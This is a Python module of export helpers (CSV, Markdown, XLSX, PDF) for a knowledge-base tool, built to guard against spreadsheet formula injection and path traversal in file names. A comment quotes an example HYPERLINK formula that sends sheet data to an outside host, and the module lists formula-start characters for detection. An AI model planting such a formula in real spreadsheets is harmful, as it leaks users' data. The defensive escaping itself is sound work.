"""File formats the exports share: choosing a format, CSV, Markdown tables, print-ready XLSX sheets, the PDF
font. Every writer returns bytes, so the CLI can save an export and the app can offer it as a download.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal

from kb.errors import ExportError
from kb.safenames import safe_name

Format = Literal["xlsx", "csv", "md", "pdf", "png"]
Cell = str | int | None

_SUFFIXES: dict[str, Format] = {
    ".xlsx": "xlsx",
    ".csv": "csv",
    ".md": "md",
    ".markdown": "md",
    ".pdf": "pdf",
    ".png": "png",
}

# Spreadsheet formula injection (OWASP "CSV Injection"): a cell whose text starts with one of these is read
# as a formula by Excel, WPS and LibreOffice (`=HYPERLINK("http://…?d="&A1,"a")` sends the sheet away).
# Numbers the exports compute (序号, 页码, the matrix's counts) are numbers, not text, and are left alone;
# text is escaped as OWASP says, a signed number written as text (`-5`) included, no further.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

PDF_FONT = "STSong-Light"  # reportlab's built-in CJK CID font: no font file, and the text extracts again


def choose_format(path: str | Path | None, fmt: str | None, allowed: Sequence[Format], what: str) -> Format:
    """The format asked for, else the one the file name implies; an error names the file and the choices."""
    where = str(path) if path is not None else what
    chosen = fmt.lower().lstrip(".") if fmt else _SUFFIXES.get(Path(path).suffix.lower()) if path else None
    if chosen == "markdown":
        chosen = "md"
    choices = ", ".join(allowed)
    if chosen is None:
        raise ExportError(where, f"cannot tell the {what} format from the file name: use one of {choices}")
    if chosen not in allowed:
        raise ExportError(where, f"cannot export the {what} as '{chosen}': choose one of {choices}")
    return chosen  # type: ignore[return-value]


def write_file(path: str | Path, data: bytes) -> Path:
    """Write an export, creating its folder; an unwritable place is an error naming the path."""
    target = Path(path)
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    except OSError as error:
        raise ExportError(str(target), f"cannot write the file: {error.strerror or error}") from error
    return target


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet may take this text for a formula (OWASP's list of first characters)."""
    return text.startswith(FORMULA_START)


def csv_cell(cell: Cell) -> str | int:
    """A cell as a CSV holds it: text that would start a formula gets a leading `'` (OWASP's escape: the
    spreadsheet shows the text, quote included, and computes nothing); numbers stay numbers."""
    if cell is None:
        return ""
    if isinstance(cell, str) and starts_formula(cell):
        return "'" + cell
    return cell


def csv_bytes(headers: Sequence[str], rows: Sequence[Sequence[Cell]]) -> bytes:
    """CSV in UTF-8 with a byte-order mark, because Excel on a Chinese Windows reads BOM-less CSV as GBK.
    Every cell, headers included (they hold document titles), is formula-safe (`csv_cell`); the csv module
    quotes a cell holding a comma, a quote or a line break, so no text from a document starts a new cell."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([csv_cell(h) for h in headers])
    writer.writerows([[csv_cell(cell) for cell in row] for row in rows])
    return out.getvalue().encode("utf-8-sig")


def _md_cell(cell: Cell) -> str:
    # A pipe or a line break would end the cell early in a Markdown table.
    text = "" if cell is None else str(cell)
    return text.replace("\\", "\\\\").replace("|", "\\|").replace("\r", "").replace("\n", "<br>")


def markdown_table(headers: Sequence[str], rows: Sequence[Sequence[Cell]]) -> str:
    """A GitHub-flavoured Markdown table."""
    lines = ["| " + " | ".join(_md_cell(h) for h in headers) + " |", "|" + "---|" * len(headers)]
    lines += ["| " + " | ".join(_md_cell(c) for c in row) + " |" for row in rows]
    return "\n".join(lines) + "\n"


if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

# openpyxl is imported by the functions that write a workbook: a process that never exports (the app until
# someone downloads, `kb ask`) does not pay for it at start-up


def add_sheet(
    workbook: Workbook,
    title: str,
    headers: Sequence[str],
    rows: Sequence[Sequence[Cell]],
    widths: Sequence[float],
    heading: str | None = None,
) -> Worksheet:
    """A sheet formatted for printing: A4 landscape, fit to page width, header row frozen and repeated on
    every printed page, wrapped text, set column widths. `heading` is an optional title line above it."""
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.utils import get_column_letter

    thin = Side(style="thin", color="999999")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    sheet = workbook.create_sheet(title[:31])  # Excel refuses longer sheet names
    if heading:
        sheet.append([heading])
        sheet.cell(row=1, column=1).font = Font(bold=True, size=13)
    header_row = sheet.max_row + 1 if heading else 1
    sheet.append(list(headers))
    for row in rows:
        sheet.append(["" if cell is None else cell for cell in row])
    for row_cells in sheet.iter_rows():
        for cell in row_cells:
            _as_text(cell)
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDE4EE")
    for row_cells in sheet.iter_rows(min_row=header_row):
        for cell in row_cells:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
            cell.border = border
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = sheet.cell(row=header_row + 1, column=1)
    sheet.print_title_rows = f"{header_row}:{header_row}"
    if rows:
        sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(len(headers))}{header_row + len(rows)}"
    _print_setup(sheet)
    return sheet


def _as_text(cell: Any) -> None:
    """Keep text as text: openpyxl stores a string starting with `=` as a live formula, and a cell starting
    with + - @ becomes one as soon as someone edits it. Such a cell is stored as a string with Excel's quote
    prefix (what typing `'` before it does): shown exactly as the document wrote it, never computed."""
    if isinstance(cell.value, str) and starts_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def _print_setup(sheet: Worksheet) -> None:
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.orientation = "landscape"
    # Fit every column on the page width, as many pages tall as needed.
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.page_margins.left = sheet.page_margins.right = 0.4
    sheet.page_margins.top = sheet.page_margins.bottom = 0.5
    sheet.print_options.horizontalCentered = True
    sheet.oddFooter.center.text = "&P / &N"


def new_workbook() -> Workbook:
    """An empty workbook (openpyxl starts with one blank sheet, which `add_sheet` replaces)."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    return workbook


def workbook_bytes(workbook: Workbook) -> bytes:
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def register_pdf_font() -> str:
    """Register the CJK CID font with reportlab once and return its name."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont

    if PDF_FONT not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont(PDF_FONT))
    return PDF_FONT


def export_filename(kind: str, fmt: str, subject: str | None = None) -> str:
    """A file name for a download or a default output, e.g. `职责清单-县林业局.pdf`: one base name whatever the
    subject holds (a unit name read from a document may hold `../`)."""
    stem = f"{kind}-{subject}" if subject else kind
    return safe_name(f"{stem.replace(' ', '_')}.{fmt}", fallback=f"{kind}.{fmt}")
